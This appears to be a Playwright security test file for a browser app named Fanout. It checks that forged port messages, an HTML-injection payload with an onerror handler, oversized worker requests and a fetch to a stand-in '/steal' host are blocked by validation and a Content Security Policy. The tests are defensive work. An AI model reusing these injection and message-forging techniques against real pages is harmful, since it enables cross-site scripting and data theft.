import { test as base } from '@playwright/test';
import { expect, lines, runScript, test } from '../fixtures';
import { expectRecovered } from './health';

/**
 * The serious attacks: a script or a mapped function forges messages to the page. Every
 * forged message is dropped at the page's boundary with one warning; nothing runs.
 */

/** Script prelude that captures the driver's events port by patching postMessage once. */
const CAPTURE_PORT = `
const post = MessagePort.prototype.postMessage;
let port: MessagePort | undefined;
MessagePort.prototype.postMessage = function (this: MessagePort, ...a: unknown[]) {
  port ??= this;
  return (post as (...x: unknown[]) => void).apply(this, a);
};
print('captured');
MessagePort.prototype.postMessage = post;
const forge = (events: unknown[]) => port!.postMessage({ type: 'events', events });
`;

const HTML = `"><img src=x onerror="document.title='pwned'">`;

test('a forged call-start with HTML in its callId is dropped and nothing runs', async ({ app }) => {
  const title = await app.title();
  const code = `${CAPTURE_PORT}
forge([{ type: 'call-start', callId: ${JSON.stringify(HTML)}, kind: 'map', label: ${JSON.stringify(HTML)}, total: 1, items: 1, targets: [0], time: 0 }]);
await sleep(200);
print('after');`;
  const report = await runScript(app, code);
  expect(report.ok).toBe(true);
  expect(lines(report)).toContain('after');
  expect(lines(report).join('\n')).toContain("does not match Fanout's protocol");
  await expect(app.getByTestId('console')).toContainText("does not match Fanout's protocol");
  expect(await app.locator('img').count()).toBe(0);
  expect(report.calls).toEqual([]);
  expect(await app.title()).toBe(title);
  await expectRecovered(app, code);
});

test('forged charts in a task reply are examined and dropped', async ({ app }) => {
  // The engine posts replies with the postMessage it started with, so the forgery goes
  // through the array the engine collects charts in.
  const code = `const c = await cluster({ workers: 2 });
const r = await c.view().apply(() => {
  const push = Array.prototype.push;
  Array.prototype.push = function (this: unknown[], ...items: any[]) {
    if (items[0] && items[0].type === 'plot') {
      push.call(this,
        { type: 'call-start', callId: ${JSON.stringify(HTML)}, kind: 'map', label: 'x', total: 1, items: 1, targets: [0], time: 0 },
        { type: 'table', source: 0, time: 0, columns: 5, rows: 'x', total: 1 });
    }
    return push.apply(this, items);
  };
  plot.hist([1, 2, 3]);
  Array.prototype.push = push;
  return workerId;
});
print('workers', r.join(','));`;
  const report = await runScript(app, code);
  expect(report.ok).toBe(true);
  expect(lines(report)).toContain('workers 0,1');
  // Two forged entries per worker are dropped; the well-formed histogram is kept.
  expect(lines(report).filter((l) => /2 charts from a worker did not match/.test(l))).toHaveLength(
    2,
  );
  await expect(app.getByTestId('plot')).toHaveCount(2);
  expect(report.calls.map((c) => c.kind)).toEqual(['apply']);
  expect(await app.locator('img').count()).toBe(0);
  await expectRecovered(app, code);
});

test('a forged cluster of a billion workers does not freeze the page', async ({ app }) => {
  const code = `${CAPTURE_PORT}
forge([{ type: 'cluster', workers: 1e9, time: 0 }]);
await sleep(200);
print('still here');`;
  const report = await runScript(app, code);
  expect(report.ok).toBe(true);
  expect(report.workers).toBeLessThanOrEqual(2);
  expect(lines(report)).toContain('still here');
  await expect(app.locator('#status')).toHaveText(/Done/);
  await expectRecovered(app, code);
});

test('malformed table and output events are dropped and the run ends Done', async ({ app }) => {
  const code = `${CAPTURE_PORT}
forge([
  { type: 'table', source: 'driver', time: 0, columns: 5, rows: 'not rows', total: 1 },
  { type: 'output', line: { source: 'driver', level: 'log', text: { toString: 1 }, time: 0 } },
  { type: 'output', line: { source: 99, level: 'log', text: 'x', time: 0 } },
  { type: 'plot', source: 'driver', time: 0, spec: { kind: 'line', series: 'no' , total: 1 } },
  null,
  'junk',
]);
port!.postMessage('not a batch');
await sleep(200);
table([{ a: 1 }]);
print('done');`;
  const report = await runScript(app, code);
  expect(report.ok).toBe(true);
  expect(lines(report)).toContain('done');
  // One warning per run, however many messages were dropped.
  expect(lines(report).filter((l) => l.includes("does not match Fanout's protocol"))).toHaveLength(
    1,
  );
  await expect(app.locator('#status')).toHaveText(/Done/);
  await expect(app.getByTestId('table')).toHaveCount(1);
  await expectRecovered(app, code);
});

test('a forged request for a billion engines is refused', async ({ app }) => {
  const code = `${CAPTURE_PORT}
const answer = await new Promise<any>((resolve) => {
  port!.addEventListener('message', (e: MessageEvent) => resolve(e.data));
  port!.postMessage({ type: 'engines', id: 999, count: 1e9 });
});
print('answer', answer.id, answer.error);`;
  const report = await runScript(app, code);
  expect(lines(report)).toContain('answer 999 1000000000 engines is more than the 64 Fanout runs');
  await expectRecovered(app, code);
});

// Without the app fixture: the browser reports the blocked handler as a console error,
// which is exactly what this test expects to see.
base('the page has a Content Security Policy that blocks inline handlers', async ({ page }) => {
  const errors: string[] = [];
  page.on('console', (m) => {
    if (m.type() === 'error') errors.push(m.text());
  });
  await page.goto('/');
  await page.waitForFunction(() => window.fanout !== undefined);
  const csp = await page
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .getAttribute('content');
  expect(csp).toContain("script-src 'self';");
  expect(csp).toContain("connect-src 'self'");
  expect(csp).toContain("worker-src 'self'");
  // A missed escape, simulated: markup with an inline handler lands in the page.
  const violation = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), {
          once: true,
        });
        const box = document.createElement('div');
        box.innerHTML = `<img src="data:," onerror="window.name='pwned'">`;
        document.body.append(box);
      }),
  );
  expect(violation).toMatch(/^script-src/);
  expect(await page.evaluate(() => window.name)).not.toBe('pwned');
  expect(errors.length).toBeGreaterThan(0);
  for (const e of errors) expect(e).toContain('Content Security Policy');
});

test("a script's connection to another origin is refused", async ({ app }) => {
  const code = `self.addEventListener('securitypolicyviolation', (e: any) => print('blocked', e.effectiveDirective));
try { await fetch('http://192.0.2.1/steal'); } catch (e) { print('fetch failed'); }
await sleep(50);`;
  const report = await runScript(app, code);
  expect(lines(report)).toContain('blocked connect-src');
  expect(lines(report)).toContain('fetch failed');
  await expectRecovered(app, code);
});
